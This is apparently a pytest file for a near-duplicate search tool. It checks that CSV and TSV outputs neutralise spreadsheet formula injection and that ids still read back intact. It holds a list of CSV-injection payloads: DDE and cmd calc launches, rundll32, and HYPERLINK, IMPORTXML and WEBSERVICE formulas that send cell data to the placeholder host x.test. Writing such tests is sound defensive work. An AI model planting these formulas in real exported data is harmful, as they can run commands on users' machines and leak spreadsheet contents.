"""Formulas in what is written as CSV and TSV: no spreadsheet finds one, and ids come back."""

from __future__ import annotations

import csv
import io
import unicodedata
from collections.abc import Iterable, Iterator
from itertools import product
from pathlib import Path

import pytest

import neardup_solr as nd
from tests.command import neardup
from tests.faults.conftest import RecordRow

SIGNS = "=+-@"
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://x.test/?"&A1;"see here")',
    '=IMPORTXML(CONCAT("http://x.test/?";A1);"//a")', '=WEBSERVICE("http://x.test/"&A1)',
    "='file:///etc/passwd'#$passwd.A1", '=DDE("cmd";"/C calc";"1")', "=rundll32|'URL.dll'!A",
)  # fmt: skip
# What a program may drop before a sign, or takes for the end of a cell before it.
BEFORE = (
    "", " ", "   ", "\t", "\r", "\n", "\r\n", "\xa0", "\u3000", "\u200b", "\ufeff", "\x00", "\x01",
    "\xad", "\u202e", "'", '"', '" ', ' "', "''", '""', "`", "\u201c", "\u2018", "\xab", ";", ",",
    "|", "a;", "a,", "a\t", "a|", 'a";"', 'a","', "a\n", "a\r", 'a"\n"', "a, ", "a;'", '";',
    'a"\t"', "\\", "\\\t", "a\\;", "\u2800", "\ufe0f",
)  # fmt: skip
FULL_WIDTH = str.maketrans("=+-@", "\uff1d\uff0b\uff0d\uff20")
PAYLOADS = [f"{before}{formula}" for before, formula in product(BEFORE, FORMULAS)]
PAYLOADS += [payload.translate(FULL_WIDTH) for payload in PAYLOADS]


def cells(text: str) -> Iterator[str]:
    """The cells of a file as any spreadsheet may see them: by each separator, quotes or none."""
    for delimiter in ",;\t|":
        for quotes in ('"', None):
            lines = io.StringIO(text, newline="")
            for row in csv.reader(lines, delimiter=delimiter, quotechar=quotes):
                yield from row


def is_formula(cell: str) -> bool:
    """Whether a cell begins with a sign, after what nobody sees, quotes and blanks."""
    folded = unicodedata.normalize("NFKC", cell)
    shown = (one for one in folded if not is_passed_over(one))
    return next(shown, "").startswith(tuple(SIGNS))


def is_passed_over(character: str) -> bool:
    """Whether a spreadsheet may drop a character before it looks for a formula.

    An apostrophe is kept by all of them: it says that a text follows.
    """
    kind = unicodedata.category(character)
    return character in '"`\u2800\ufe0f' or kind[0] in "ZC" or kind in ("Pi", "Pf")


COMMON = "the night ferry leaves the old pier at nine"


def text_of(number: int) -> str:
    """A text that shares no word with those of other numbers."""
    return " ".join(f"w{number}x{at}" for at in range(5))


def documents_of(ids: Iterable[str], more: str = "") -> list[nd.Document]:
    """Documents with these ids, or longer ones, of which no two are near-duplicates."""
    return [nd.Document(id=id + more, text=text_of(at)) for at, id in enumerate(ids)]


def duplicates_of(ids: Iterable[str]) -> nd.Duplicates:
    """A cluster of two documents for each id, which is its canonical one."""
    ids = list(ids)
    others = documents_of(f"other {at}" for at in range(len(ids)))
    found = nd.duplicates([*documents_of(ids), *others])
    assert {cluster.canonical for cluster in found.clusters} == set(ids)
    return found


def write_pairs(solr: nd.Collection, path: Path) -> None:
    """Write pairs as `report` finds them, without cluster and measure."""
    pairs = [
        nd.Pair(id=id, other_id=f"other {at}", distance=1, similarity=0.9)
        for at, id in enumerate(PAYLOADS)
    ]
    nd.Report(pairs=tuple(pairs), documents=2 * len(pairs), cut=0).write(path)


def write_duplicates(solr: nd.Collection, path: Path) -> None:
    """Write pairs with their clusters."""
    duplicates_of(PAYLOADS).write(path)


def write_matches(solr: nd.Collection, path: Path) -> None:
    """Write near-duplicates of a text, whose ids and texts begin so, as the command shows them."""
    found = [nd.Document(id=text, text=f"{text} {COMMON}") for text in PAYLOADS]
    assert nd.index(found, solr).indexed == len(PAYLOADS)
    words = ["search", "--solr", solr.url, "--text", COMMON, "--candidates", str(len(PAYLOADS)),
             "--measure", "containment", "--format", path.suffix[1:]]  # fmt: skip
    ran = neardup(*words)
    assert ran.returncode == 0, ran.stderr
    path.write_text(ran.stdout, encoding="utf-8", newline="")


def write_decisions(solr: nd.Collection, path: Path) -> None:
    """Write decisions of the gate, each about an id because of another."""
    nd.index(documents_of(PAYLOADS, "!"), solr)
    nd.gate(documents_of(PAYLOADS), solr).write(path)


FACES = {
    "pairs": write_pairs,
    "duplicates": write_duplicates,
    "matches": write_matches,
    "decisions": write_decisions,
}


@pytest.mark.parametrize("format", ["csv", "tsv"])
def test_no_spreadsheet_finds_a_formula(
    format: str, solr: nd.Collection, tmp_path: Path, row: RecordRow
) -> None:
    """Whatever stands before a formula, and wherever a program begins a cell."""
    for name, write in FACES.items():
        path = tmp_path / f"{name}.{format}"
        write(solr, path)
        text = path.read_bytes().decode()
        assert text.count("DDE") >= 2 * len(BEFORE), name
        assert [cell for cell in cells(text) if is_formula(cell)] == [], name
        nd.delete(solr, query="*:*")
    row("S4", f"{format}: 0 of {len(PAYLOADS):,} formulas run, in {len(FACES)} kinds of tables")


def test_the_spreadsheet_of_these_tests_sees_formulas() -> None:
    """Most of them are seen in a file that nobody made neutral; a mark hides the rest."""
    unseen = []
    for payload in PAYLOADS:
        line = io.StringIO()
        csv.writer(line).writerow([payload, "other"])
        if not any(map(is_formula, cells(line.getvalue()))):
            unseen.append(payload)
    assert all("'" in payload or "\\" in payload for payload in unseen)
    assert len(unseen) < len(PAYLOADS) / 5


@pytest.mark.parametrize("suffix", ["csv", "tsv"])
def test_ids_come_back(suffix: str, tmp_path: Path) -> None:
    """What our own readers read of such a file are the ids that were written."""
    path = tmp_path / f"pairs.{suffix}"
    found = duplicates_of(PAYLOADS)
    found.write(path)
    known = [(pair.id, pair.other_id) for pair in found.pairs]
    assert nd.evaluate(known, path, ordered=True).f1 == 1.0
    nd.evaluate(known, []).write(path)
    again = nd.evaluate(known, path)
    assert (again.found, again.f1) == (len(known), 1.0)
